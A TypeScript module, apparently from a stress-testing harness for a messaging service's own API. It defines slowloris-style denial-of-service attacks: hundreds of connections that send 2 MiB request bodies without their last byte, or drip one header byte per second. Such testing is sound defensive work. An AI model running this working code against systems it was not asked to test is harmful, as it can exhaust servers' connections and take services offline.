import type { Attack, Target } from '../attack.ts'
import { attackReport, headOf, jsonAs, keepOpen, send } from '../exchange.ts'

const bodyBytes = 2 * 1024 * 1024
const [unfinishedBodies, slowHeads] = [200, 300]

/** Requests that never end. */
export const slowAttacks: Attack[] = [
  {
    name: 'unfinished-bodies',
    title: `${unfinishedBodies} pushes of 2 MiB whose last byte never comes`,
    start: (target) => sendUnfinished(target, '/api/v1/messages', jsonAs(target)),
  },
  {
    name: 'unfinished-callbacks',
    title: `${unfinishedBodies} unsigned callbacks of 2 MiB whose last byte never comes`,
    start: (target) => sendUnfinished(target, '/callbacks/whatsapp', { 'Content-Type': 'application/json' }),
  },
  {
    name: 'slow-heads',
    title: `${slowHeads} connections that send a byte of a header a second`,
    start(target) {
      const start = headOf('GET', '/api/v1/credits', {}).slice(0, -2)
      keepOpen(target, slowHeads, (socket) => {
        attackReport.requests++
        socket.write(`${start}X-Slow: `)
        const timer = setInterval(() => socket.write('a'), 1000)
        socket.once('close', () => clearInterval(timer))
        return () => socket.destroy()
      })
    },
  },
]

function sendUnfinished(target: Target, path: string, headers: Record<string, string>): void {
  const head = headOf('POST', path, { ...headers, 'Content-Length': String(bodyBytes) })
  const unfinished = { head, body: Buffer.alloc(bodyBytes - 1, 0x20) }
  keepOpen(target, unfinishedBodies, (socket) => {
    send(socket, unfinished)
    return () => socket.destroy()
  })
}
